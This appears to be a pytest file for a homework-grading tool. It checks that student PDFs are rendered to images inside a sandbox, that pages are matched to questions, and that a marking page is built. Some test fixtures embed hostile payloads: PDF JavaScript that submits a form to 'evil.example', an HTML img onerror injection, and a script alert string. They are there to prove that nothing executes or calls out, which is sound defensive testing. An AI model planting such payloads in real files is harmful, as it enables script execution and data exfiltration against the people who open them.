"""A written.pdf: drawn in the jail, told apart by question, and nothing of it but pixels on the teacher's page."""

from __future__ import annotations

import json
import re
import struct
import zlib
from pathlib import Path

import numpy as np
import pytest

from lab_browser import browser as browser
from regard.grading.submissions import pdf_pages
from regard.grading.submissions.pdf_pages import MOST_PAGES, draw_pdf, pages_of, png
from regard.sandbox.jail import best_tier

pytest.importorskip("pypdfium2")

ASSIGNMENT = """
name = "hw"
[[question]]
id = "1A.i"
text = "Why?"
checklist = ["says why"]
[[question]]
id = "1A.ii"
text = "When?"
checklist = ["says when"]
"""


def make_pdf(pages: list[str], outline: list[tuple[str, int]] | None = None, *, extra: str = "") -> bytes:
    """A PDF by hand: lines of text on pages, bookmarks, and what else the catalogue is to have."""
    objects = ["", "", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    kids = []
    for text in pages:
        stream = f"BT /F1 40 Tf 60 700 Td ({text}) Tj ET"
        objects.append(f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream")
        fonts = "/Resources << /Font << /F1 3 0 R >> >>"
        box = f"/MediaBox [0 0 595 842] /Contents {len(objects)} 0 R"
        objects.append(f"<< /Type /Page /Parent 2 0 R {box} {fonts} >>")
        kids.append(len(objects))
    listed = " ".join(f"{kid} 0 R" for kid in kids)
    objects[1] = f"<< /Type /Pages /Count {len(kids)} /Kids [{listed}] >>"
    if outline:
        first, last = len(objects) + 2, len(objects) + 1 + len(outline)
        objects.append(f"<< /Type /Outlines /First {first} 0 R /Last {last} 0 R /Count {len(outline)} >>")
        extra += f" /Outlines {len(objects)} 0 R"
        for at, (title, page) in enumerate(outline, first):
            beside = f"/Prev {at - 1} 0 R " * (at > first) + f"/Next {at + 1} 0 R " * (at < last)
            plain = title.replace("(", "\\(").replace(")", "\\)")
            objects.append(f"<< /Title ({plain}) /Parent {first - 1} 0 R {beside}/Dest [{kids[page]} 0 R /Fit] >>")
    objects[0] = f"<< /Type /Catalog /Pages 2 0 R {extra} >>"
    made, places = b"%PDF-1.4\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n{text}\nendobj\n".encode()
    rows = b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    tail = f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(made)}\n%%EOF\n"
    return made + f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode() + rows + tail.encode()


def pixels(data: bytes) -> np.ndarray:
    """The picture of one of our own PNG files."""
    wide, high = struct.unpack(">II", data[16:24])
    start = data.index(b"IDAT") + 4
    (length,) = struct.unpack(">I", data[start - 8 : start - 4])
    rows = np.frombuffer(zlib.decompress(data[start : start + length]), dtype=np.uint8).reshape(high, 3 * wide + 1)
    return rows[:, 1:].reshape(high, wide, 3)


@pytest.mark.slow
def test_pages_are_drawn_once_and_in_the_jail(tmp_path: Path, monkeypatch) -> None:
    data = make_pdf(["because", ""], [("1A.i", 0), ("Question 1A.ii", 1)])
    found = draw_pdf(data, tmp_path, jail=best_tier(True))
    assert (len(found.files), found.problem) == (2, "")
    assert found.outline == (("1A.i", 0), ("Question 1A.ii", 1))
    first, second = (pixels((tmp_path / name).read_bytes()) for name in found.files)
    assert first.shape[1] == 1000
    assert (first.min(), second.min()) == (0, 255)  # black letters on the one, nothing on the other
    monkeypatch.setattr(pdf_pages, "Runner", None)  # whoever draws again would need it
    assert draw_pdf(data, tmp_path, jail=best_tier(True)) == found


@pytest.mark.slow
def test_what_is_no_pdf_or_too_long_is_said(tmp_path: Path) -> None:
    jail = best_tier(True)
    for data in (b"", b"%PDF-1.4 <script>alert(1)</script>", b"PK\x03\x04" + bytes(500), make_pdf(["x"])[:200]):
        found = draw_pdf(data, tmp_path, jail=jail)
        assert (found.files, "no PDF that can be read" in found.problem) == ((), True)
    many = draw_pdf(make_pdf([""] * (MOST_PAGES + 2)), tmp_path, jail=jail)
    assert (len(many.files), many.problem) == (MOST_PAGES, f"it has {MOST_PAGES + 2} pages, and the first 40 are shown")


def test_what_comes_back_is_not_believed() -> None:
    for reply in (b"", b"\1\0\0\0\1\0\0\0ab", struct.pack("<II", 9999, 1) + bytes(3 * 9999), struct.pack("<II", 0, 0)):
        with pytest.raises((ValueError, struct.error)):
            png(reply)
    with pytest.raises((ValueError, TypeError)):
        pdf_pages._checked_outline(b'[2, [["a", "b"]]]')
    assert pdf_pages._checked_outline(b'[2, [["a", 1], ["b", 7], ["c", -1]]]') == (2, (("a", 1),))


def test_without_pypdfium2_it_says_what_to_install(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr("regard.sandbox.tool.with_requirements", lambda name: ())
    found = draw_pdf(make_pdf(["x"]), tmp_path, jail=best_tier(True))
    assert found.problem.endswith("needs pypdfium2, which is not installed: pip install 'regard[pdf]'.")


@pytest.mark.parametrize(
    ("question", "said", "pages"),
    [
        ("1A.i", "", [0]),
        ("1A.ii", "", [1, 2]),
        ("1B.i", "", [3]),
        ("1B", "", [3]),
        ("2", "", [0, 1, 2, 3]),  # no mark: all of them
        ("1A.i", "see page 3", [2]),
        ("1A.i", "Pages 2-3 of written.pdf", [1, 2]),
        ("1A.i", "pp. 3 to 4", [2, 3]),
        ("1A.i", "page 9", [0]),  # there is none
        ("1A.i", "As shown on page 3 of the book, " + "the weights are positive and sum to one. " * 3, [0]),
    ],
)
def test_which_pages_are_about_a_question(question: str, said: str, pages: list[int]) -> None:
    outline = (("1A.i", 0), ("1A.ii. One key", 1), ("Question 1B (i): noise", 3))
    assert pages_of(question, outline, 4, said) == pages


@pytest.mark.slow
def test_what_is_in_a_pdf_alone_waits_for_a_person(tmp_path: Path, regard) -> None:
    """Words, a proof, and an expression that was asked for as a function: none of them is a zero."""
    asked = '[[question]]\nid = "2"\nclaim = "average-of-two"\n[[question]]\nid = "3"\nclaim = "singular-tail"\n'
    (tmp_path / "hw.toml").write_text(f'{ASSIGNMENT}{asked}kind = "derivation"\nchecklist = ["shows it", "uses (a)"]\n')
    (tmp_path / "subs" / "ada").mkdir(parents=True)
    (tmp_path / "subs" / "ada" / "written.pdf").write_bytes(make_pdf(["all of it"]))
    (tmp_path / "secret.txt").write_text("a secret of sixteen")
    words = [
        str(tmp_path / "subs"),
        "--assignment",
        str(tmp_path / "hw.toml"),
        "--secret",
        str(tmp_path / "secret.txt"),
    ]
    folder = tmp_path / "grades"
    code, out, _ = regard("grade", *words, "--out", str(folder))
    assert (code, "4 marks need you (?)" in out) == (0, True)
    items = json.loads(re.search("id=data>(.*?)</script>", (folder / "marking.html").read_text())[1])["items"]
    assert [(item["question"], item["mine"], len(item["checklist"])) for item in items] == [
        *(("1A.i", [0], 1), ("1A.ii", [0], 1), ("3", [0], 2), ("2", [0], 0))
    ]
    ticked = {"student": "ada", "question": "3", "ticks": [True, False]}
    (folder / "written.json").write_text(json.dumps({"assignment": "hw", "marks": [ticked], "base": []}))
    code, out, _ = regard("grade", *words, "--out", str(folder))
    assert "ada: 0 -> 0.5 (3: 0 -> 0.5)" in out


@pytest.mark.slow
def test_the_pages_stand_beside_the_checklist(tmp_path: Path, regard, browser) -> None:
    """And nothing of the file runs there or reaches out: scripts and links of a PDF stay in the jail."""
    script = "/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\); this.submitForm\\('http://evil.example'\\)) >>"
    for student, data in {
        "ada": make_pdf(["one", "two", "three"], [("1A.i", 0), ("1A.ii", 1)], extra=script),
        "eve": b"%PDF-1.4 <img src=http://evil.example/x onerror=alert(1)>",
    }.items():
        (tmp_path / "subs" / student).mkdir(parents=True)
        (tmp_path / "subs" / student / "written.pdf").write_bytes(data)
    (tmp_path / "hw.toml").write_text(ASSIGNMENT)
    (tmp_path / "secret.txt").write_text("a secret of sixteen")
    words = [
        str(tmp_path / "subs"),
        "--assignment",
        str(tmp_path / "hw.toml"),
        "--secret",
        str(tmp_path / "secret.txt"),
    ]
    assert regard("grade", *words, "--out", str(tmp_path / "grades"))[0] == 0
    page = (tmp_path / "grades" / "marking.html").read_text()
    assert "evil" not in page
    items = json.loads(re.search("id=data>(.*?)</script>", page)[1])["items"]
    assert [item["mine"] for item in items if item["student"] == "ada"] == [[0], [1, 2]]
    assert all(file.suffix in (".png", ".json") for file in (tmp_path / "grades" / "pages").iterdir())
    tab = browser.new_page()
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url))
    tab.goto((tmp_path / "grades" / "marking.html").as_uri())
    assert tab.locator("#pages img").count() == 1
    assert tab.evaluate("document.querySelector('#pages img').decode().then(() => true)")
    tab.keyboard.press("g")
    assert tab.locator("#pages img").count() == 3
    assert "pages 1, 2, 3 of 3" in tab.text_content("#which")
    tab.keyboard.press("j")  # eve
    assert tab.text_content("#which").startswith("The PDF is not shown. The reason: it is no PDF")
    assert all(url.startswith((tmp_path / "grades").as_uri()) for url in asked)
    tab.close()
